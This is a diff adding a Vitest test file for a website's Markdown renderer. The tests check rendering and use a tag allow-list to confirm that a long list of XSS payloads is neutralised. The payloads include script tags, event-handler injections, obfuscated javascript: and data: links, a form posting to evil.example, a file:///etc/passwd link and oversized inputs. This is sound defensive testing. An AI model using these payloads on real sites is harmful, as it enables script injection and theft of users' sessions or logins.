@@ -1,0 +1,129 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '~/domain/content/markdown.server';
+
+describe('the Markdown of a post', () => {
+  it('becomes headings below that of the page, lists, quotes and emphasis', () => {
+    expect(renderMarkdown('# One\n\n###### Six\n\n1. a\n2. **b**\n\n> quote\n\n- *c*')).toBe(
+      '<h2>One</h2>\n<h6>Six</h6>\n<ol>\n<li>a</li>\n<li><strong>b</strong></li>\n</ol>\n<blockquote>\n<p>quote</p>\n</blockquote>\n<ul>\n<li><em>c</em></li>\n</ul>',
+    );
+  });
+
+  it('links to our pages as they are, and to others without vouching for them', () => {
+    expect(renderMarkdown('[a](/products) [b](https://kebs.org "title") <mailto:a@b.example>')).toBe(
+      '<p><a href="/products">a</a> <a rel="noopener nofollow" href="https://kebs.org" title="title">b</a> <a href="mailto:a@b.example">mailto:a@b.example</a></p>',
+    );
+    expect(renderMarkdown('[a](//elsewhere.example)')).toContain('rel="noopener nofollow"');
+  });
+
+  it('shows pictures of ours in a frame of known size, and of others only the words', () => {
+    expect(renderMarkdown('![A "cow"](/images/cow.jpg "t")')).toBe(
+      '<p><img src="/images/cow.jpg" alt="A &quot;cow&quot;" width="960" height="640" loading="lazy" decoding="async"></p>',
+    );
+    expect(renderMarkdown('![A <b> cow](https://spy.example/a.gif)')).toBe('<p>A &lt;b&gt; cow</p>');
+    expect(renderMarkdown('![A cow](//spy.example/a.gif)')).toBe('<p>A cow</p>');
+  });
+
+  it('is rendered once for each version of a text', () => {
+    const text = `A text of ${Math.random()}`;
+    const again = `${text}`.split('').join('');
+    expect(renderMarkdown(again)).toBe(renderMarkdown(text));
+    expect(renderMarkdown(`${text}!`)).not.toBe(renderMarkdown(text));
+    for (let count = 0; count < 300; count += 1) renderMarkdown(`${text} ${count}`);
+    expect(renderMarkdown(text)).toBe(`<p>${text}</p>`);
+  });
+});
+
+/** What our renderer may write, and nothing else: the tags with the attributes that each may have. */
+const allowed: Readonly<Record<string, RegExp>> = {
+  a: /^( rel="noopener nofollow")? href="(?!\s*(?:javascript|data|vbscript|file|blob):)[^"<>]*"( title="[^"<>]*")?$/i,
+  img: /^ src="\/(?!\/)[^"<>]*" alt="[^"<>]*" width="960" height="640" loading="lazy" decoding="async"$/,
+  code: /^( class="language-[^"<>]*")?$/,
+  ol: /^( start="\d+")?$/,
+};
+const bare = /^(p|h[2-6]|ul|li|blockquote|em|strong|pre|br|hr)$/;
+
+/** The tags of a piece of HTML that are not among those allowed; text must hold no bare `<`. */
+function strangers(html: string): string[] {
+  const tags = html.match(/<[^>]*>?/g) ?? [];
+  return tags.filter((tag) => {
+    const [, name = '', attributes = ''] = /^<\/?([a-z][a-z0-9]*)((?:\s[^>]*?)?)\s*\/?>$/.exec(tag) ?? [];
+    return allowed[name]
+      ? !(tag.startsWith('</') || allowed[name].test(attributes))
+      : !(bare.test(name) && attributes === '');
+  });
+}
+
+/** In the manner of the XSS filter evasion cheat sheet of OWASP, as they would be written in Markdown. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.example"><button>Sign In</button></form>',
+  '<!-- comment --><b onclick=alert(1)>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](file:///etc/passwd)',
+  '[x](https://evil.example/"onmouseover="alert(1))',
+  '[x](https://evil.example \'a" onmouseover="alert(1)\')',
+  '[x](/\\evil.example)',
+  '[x][y]\n\n[y]: javascript:alert(1) "a"',
+  '<javascript:alert(1)>',
+  '<https://evil.example/"onmouseover="alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](/a.jpg)',
+  '![x](/a.jpg"onerror="alert(1))',
+  '![x](/a.jpg \'" onerror="alert(1)\')',
+  '![<img src=x onerror=alert(1)>](https://evil.example/)',
+  '![[x](javascript:alert(1))](/a.jpg)',
+  '```js" onclick="alert(1)\ncode\n```',
+  '`<script>`',
+  '    <script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '# <h1 onclick=alert(1)>x',
+  '> <script>\n> alert(1)\n> </script>',
+  '- <img src=x onerror=alert(1)>',
+  'text <b\nonclick=alert(1)> text',
+  '\u0000<script>\u0000',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '</article></main><script>alert(1)</script>',
+  '<a href="x" <script>',
+  '<'.repeat(2_000),
+  `${'['.repeat(2_000)}x${'](javascript:alert(1))'.repeat(50)}`,
+  `${'> '.repeat(200)}<script>`,
+  `${'*'.repeat(3_000)}a${'_'.repeat(3_000)}`,
+];
+
+describe('hostile Markdown', () => {
+  it.each(hostile.map((text) => [text.slice(0, 60), text]))('is made harmless: %j', (_name, text) => {
+    expect(strangers(renderMarkdown(text))).toEqual([]);
+    expect(strangers(renderMarkdown(`before ${text} after`))).toEqual([]);
+  });
+
+  it('would be seen by this test', () => {
+    for (const html of [
+      '<script>',
+      '<p onclick="x">',
+      '<a href="javascript:alert(1)">',
+      '<img src="/a" onerror="x" alt="">',
+      '<p>a < b',
+      '<h1>',
+    ])
+      expect([html, strangers(html).length]).toEqual([html, 1]);
+  });
+});
